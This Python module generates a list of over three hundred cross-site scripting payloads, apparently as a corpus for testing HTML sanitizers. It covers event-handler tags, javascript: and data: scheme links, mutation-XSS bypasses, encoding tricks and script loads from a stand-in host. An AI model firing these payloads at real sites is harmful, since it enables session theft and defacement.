"""Three hundred and more strings that try to run: markup, events, schemes, and ways around cleaning."""

from __future__ import annotations

from itertools import product

CALL = "alert(document.domain)"
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "iframe",
    "object data=x",
    "a tabindex=1",
    "select autofocus",
    "svg/onload=1",
    "math",
    "form",
    "p style=x",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onclick", "onanimationend")
SCHEMES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "java&#10;script:{c}",
    "&#106;avascript:{c}",
    "\x01javascript:{c}",
    "javascript&colon;{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{c}",
    "javascript://example.com/%0a{c}",
    "//example.com/%3Cscript%3E",
    "jar:{c}",
    "feed:javascript:{c}",
    "view-source:javascript:{c}",
    "blob:{c}",
)
HOLDERS = (
    '<a href="{s}">click</a>',
    "<a href='{s}'>click</a>",
    "<iframe src={s}></iframe>",
    '<form action="{s}"><button>go</button></form>',
    '<svg><a xlink:href="{s}"><text>x</text></a></svg>',
    '<math href="{s}">x</math>',
    '<meta http-equiv=refresh content="0;{s}">',
    '<object data="{s}"></object>',
    '<embed src="{s}">',
    '<link rel=stylesheet href="{s}">',
)
WHOLE = (
    "<script>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script src=//example.com/x.js></script>",
    '"><script>{c}</script>',
    "'><svg/onload={c}>",
    "</textarea><script>{c}</script>",
    "</title><script>{c}</script>",
    "<!--><script>{c}</script>-->",
    "<![CDATA[<script>{c}</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    "<svg><style><img src=x onerror={c}></style>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={c}&gt;">',
    "{{{{constructor.constructor('{c}')()}}}}",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "<img src=`x`onerror={c}>",
    "&amp;lt;img src=x onerror={c}&amp;gt;",
    "<style>@import'//example.com/x.css';</style>",
    "<base href=//example.com/>",
    "\u2028<script>{c}</script>",
    '<a\nhref="javascript:{c}">x</a>',
    "<template><script>{c}</script></template>",
    "<x onclick={c}>click</x>",
    "＜script＞{c}＜/script＞",
    "<img srcset=//example.com/x.png>",
    "<p style=background:url(//example.com/x)>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={c}>#x">',
    "<svg><animate onbegin={c} attributeName=x></svg>",
    "<xmp><script>{c}</script>",
    "<plaintext><script>{c}</script>",
    "`${{{c}}}`",
)

STRINGS = tuple(
    dict.fromkeys(
        [
            *(f"<{tag} {event}={CALL}>" for tag, event in product(TAGS, EVENTS)),
            *(holder.format(s=scheme.format(c=CALL)) for holder, scheme in product(HOLDERS, SCHEMES)),
            *(scheme.format(c=CALL) for scheme in SCHEMES),
            *(whole.format(c=CALL) for whole in WHOLE),
        ]
    )
)
